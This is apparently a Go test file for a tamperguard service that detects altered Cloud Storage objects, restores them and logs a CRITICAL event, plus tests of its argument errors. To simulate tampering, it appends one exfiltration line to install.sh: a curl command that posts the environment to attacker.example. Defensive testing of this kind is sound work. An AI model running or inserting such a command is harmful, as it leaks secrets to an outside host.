package main

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"cloud.google.com/go/storage"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/tamperguard/tamperguard/internal/gcstest"
)

// serveLog is a writer that goroutines share.
type serveLog struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (b *serveLog) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.Write(p)
}

func (b *serveLog) String() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.String()
}

// lines returns the JSON log lines (the framework's own plain lines are skipped).
func (b *serveLog) lines() []map[string]any {
	var out []map[string]any
	for _, l := range strings.Split(b.String(), "\n") {
		var m map[string]any
		if json.Unmarshal([]byte(l), &m) == nil {
			out = append(out, m)
		}
	}
	return out
}

func (b *serveLog) find(key, value string) map[string]any {
	for _, m := range b.lines() {
		if m[key] == value {
			return m
		}
	}
	return nil
}

func serveConfig(t *testing.T) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), "tamperguard.yaml")
	require.NoError(t, os.WriteFile(p, []byte(`state: {bucket: tg-state}
rules:
  - bucket: uploader-prod
    objects: ["install.sh"]
    release: {git: `+testdataPath(t, "git", "uploader.git")+`, tag: v1.2.0}
    keys: {openpgp: ["`+testdataPath(t, "keys", "maintainer-rsa3072.asc")+`"]}
`), 0o600))
	return p
}

// The walkthrough of the issue: serve against a fake Cloud Storage, post the finalize
// event of an altered object, see it restored and a CRITICAL line.
func TestServeRestoresATamperedObject(t *testing.T) {
	srv := gcstest.New(t, gcstest.BucketSpec{Name: "uploader-prod", Versioning: true}, gcstest.BucketSpec{Name: "tg-state", Versioning: true})
	ctx := context.Background()
	put := func(data []byte) int64 {
		w := srv.Client.Bucket("uploader-prod").Object("install.sh").NewWriter(ctx)
		_, err := w.Write(data)
		require.NoError(t, err)
		require.NoError(t, w.Close())
		return w.Attrs().Generation
	}
	good, err := os.ReadFile(releasedInstallSh(t, "v1.2.0"))
	require.NoError(t, err)
	put(good)
	bad := put(append(append([]byte(nil), good...), "curl -d \"$(env)\" https://attacker.example\n"...))

	stdout, stderr := &serveLog{}, &serveLog{}
	e := env{stdout: stdout, stderr: stderr, getenv: func(string) string { return "" },
		storageClient: func(context.Context) (*storage.Client, func() error, error) {
			return srv.Client, func() error { return nil }, nil
		}}
	sctx, stop := context.WithCancel(ctx)
	done := make(chan struct{})
	var serveErr error
	go func() {
		defer close(done)
		serveErr = runServe(sctx, e, []string{"--config", serveConfig(t), "--host", "127.0.0.1", "--port", "0"})
	}()
	t.Cleanup(func() {
		stop()
		<-done
	})

	var url string
	require.Eventually(t, func() bool {
		if m := stdout.find("message", "serving VerifyObject through the Functions Framework"); m != nil {
			url, _ = m["url"].(string)
		}
		return url != ""
	}, 30*time.Second, 10*time.Millisecond, "stdout: %s\nstderr: %s", stdout, stderr)
	assert.Contains(t, stderr.String(), "listening on "+url)

	body := `{"kind":"storage#object","bucket":"uploader-prod","name":"install.sh","generation":"` + strconv.FormatInt(bad, 10) + `","metageneration":"1"}`
	req, err := http.NewRequest(http.MethodPost, url, strings.NewReader(body))
	require.NoError(t, err)
	for k, v := range map[string]string{
		"Content-Type": "application/json", "Ce-Id": "serve-1", "Ce-Specversion": "1.0",
		"Ce-Type": "google.cloud.storage.object.v1.finalized", "Ce-Source": "//storage.googleapis.com/projects/_/buckets/uploader-prod",
		"Ce-Subject": "objects/install.sh", "Ce-Time": time.Now().UTC().Format(time.RFC3339Nano),
	} {
		req.Header.Set(k, v)
	}
	resp, err := http.DefaultClient.Do(req)
	require.NoError(t, err)
	_, _ = io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	assert.Equal(t, http.StatusOK, resp.StatusCode)

	r, err := srv.Client.Bucket("uploader-prod").Object("install.sh").NewReader(ctx)
	require.NoError(t, err)
	live, err := io.ReadAll(r)
	r.Close()
	require.NoError(t, err)
	assert.Equal(t, good, live, "restored")

	crit := stdout.find("severity", "CRITICAL")
	require.NotNil(t, crit, stdout.String())
	assert.Equal(t, "serve-1", crit["event_id"])
	assert.Equal(t, "install.sh", crit["object"])
	assert.Equal(t, "restored", crit["action"])

	stop()
	select {
	case <-done:
		assert.NoError(t, serveErr)
	case <-time.After(time.Minute):
		t.Fatal("serve did not stop")
	}
	assert.NotNil(t, stdout.find("message", "stopped"))
}

func TestServeUsageErrors(t *testing.T) {
	e := func(kv map[string]string) env {
		return env{stdout: io.Discard, stderr: io.Discard, getenv: func(k string) string { return kv[k] },
			storageClient: func(context.Context) (*storage.Client, func() error, error) {
				t.Fatal("no storage client before the arguments are checked")
				return nil, nil, nil
			}}
	}
	ctx := context.Background()
	assert.ErrorContains(t, runServe(ctx, e(nil), []string{"--port", "http"}), `--port "http" is not a port number`)
	assert.ErrorContains(t, runServe(ctx, e(map[string]string{"PORT": "99999"}), nil), `--port "99999" is not a port number`)
	assert.ErrorContains(t, runServe(ctx, e(nil), []string{"extra"}), `unexpected argument "extra"`)
	assert.ErrorContains(t, runServe(ctx, e(map[string]string{"TAMPERGUARD_LOG_LEVEL": "loud"}), nil), "TAMPERGUARD_LOG_LEVEL")
	assert.ErrorContains(t, runServe(ctx, e(map[string]string{"TAMPERGUARD_CONFIG": "rules: {"}), nil), "configuration $TAMPERGUARD_CONFIG")
}
